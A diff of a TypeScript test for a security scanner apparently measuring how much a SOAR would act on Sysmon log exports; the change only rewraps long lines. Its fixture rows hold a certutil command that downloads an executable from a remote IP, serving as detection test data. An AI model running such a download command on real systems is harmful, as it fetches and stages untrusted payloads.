@@ -12,16 +12,19 @@ describe('scan with log exports: how much a SOAR would have acted on', () => {
     const rows = ['timestamp,Channel,EventID,Image,CommandLine,Computer'];
     for (let day = 20; day <= 22; day++) {
       rows.push(
-        `2026-11-${day}T08:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\certutil.exe","certutil -urlcache -f http://198.51.100.7/a.exe a.exe",ws${day}`,
+        `2026-11-${day}T08:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\certutil.exe` +
+          `","certutil -urlcache -f http://198.51.100.7/a.exe a.exe",ws${day}`,
       );
       rows.push(
-        `2026-11-${day}T09:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\notepad.exe","notepad.exe report.txt",ws${day}`,
+        `2026-11-${day}T09:00:00Z,Microsoft-Windows-Sysmon/Operational,1,"C:\\Windows\\System32\\notepad.exe"` +
+          `,"notepad.exe report.txt",ws${day}`,
       );
     }
     writeFileSync(join(dir, 'sysmon-export.csv'), `${rows.join('\n')}\n`);
     writeFileSync(
       join(dir, 'inventory.yaml'),
-      `version: 1\norganization: Estimate Org\ntargets: []\nrules: [${join(CHECKS_DIR, 'rules', 'windows')}]\nlog_exports: [./sysmon-export.csv]\n`,
+      'version: 1\norganization: Estimate Org\ntargets: []\nrules: ' +
+        `[${join(CHECKS_DIR, 'rules', 'windows')}]\nlog_exports: [./sysmon-export.csv]\n`,
     );
     const r = await runCli(['scan', '-i', join(dir, 'inventory.yaml'), '-o', join(dir, 'reports'), '--json']);
     expect(r.code, r.stderr).toBe(0);
